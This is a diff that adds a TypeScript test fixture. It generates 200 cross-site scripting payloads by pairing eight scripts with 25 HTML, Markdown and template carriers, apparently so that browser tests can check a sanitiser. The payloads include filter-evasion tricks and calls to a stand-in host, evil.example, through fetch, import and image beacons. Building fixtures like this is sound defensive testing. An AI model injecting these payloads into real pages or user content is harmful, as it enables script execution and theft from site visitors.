@@ -1,0 +1,45 @@
+/** What an attacker wants a page to do; each leaves a trace that a browser test looks for. */
+const scripts = [
+  "alert(1)",
+  "window.__ran=1",
+  "top.__ran=1",
+  "document.title=`ran`",
+  "fetch(`https://evil.example/f`)",
+  "import(`https://evil.example/m.js`)",
+  "new Image().src=`https://evil.example/i`",
+  "location=`https://evil.example/l`",
+];
+
+/** Ways to bring a script into a page: as HTML, as a link or picture of Markdown, as a template. */
+const carriers: ReadonlyArray<(script: string) => string> = [
+  (script) => `<script>${script}</script>`,
+  (script) => `"><script>${script}</script>`,
+  (script) => `</title><script>${script}</script>`,
+  (script) => `<img src=x onerror="${script}">`,
+  (script) => `'"><img src=x onerror=${script}>`,
+  (script) => `<svg onload="${script}">`,
+  (script) => `<svg><script>${script}</script></svg>`,
+  (script) => `<body onload="${script}">`,
+  (script) => `<details open ontoggle="${script}">`,
+  (script) => `<input autofocus onfocus="${script}">`,
+  (script) => `<video><source onerror="${script}"></video>`,
+  (script) => `<iframe srcdoc="<script>${script}</script>"></iframe>`,
+  (script) => `<iframe src="javascript:${script}"></iframe>`,
+  (script) => `<object data="javascript:${script}"></object>`,
+  (script) => `<a href="javascript:${script}">aquí</a>`,
+  (script) => `<form action="javascript:${script}"><button>Sí</button></form>`,
+  (script) => `<math><mi xlink:href="javascript:${script}">x</mi></math>`,
+  (script) => `[aquí](javascript:${script})`,
+  (script) => `[aquí](JaVaScRiPt:${script})`,
+  (script) => `[aquí](java&#115;cript:${script})`,
+  (script) => `[aquí](data:text/html,<script>${script}</script>)`,
+  (script) => `![foto](javascript:${script})`,
+  (script) => `[aquí](https://evil.example" onmouseover="${script})`,
+  (script) => `{{constructor.constructor("${script}")()}}`,
+  (script) => `**<img src=x onerror="${script}">**`,
+];
+
+/** 200 texts that would run something where text were taken for code; each at most 120 characters. */
+export const scriptPayloads: readonly string[] = carriers.flatMap((carry) =>
+  scripts.map((script) => carry(script)),
+);
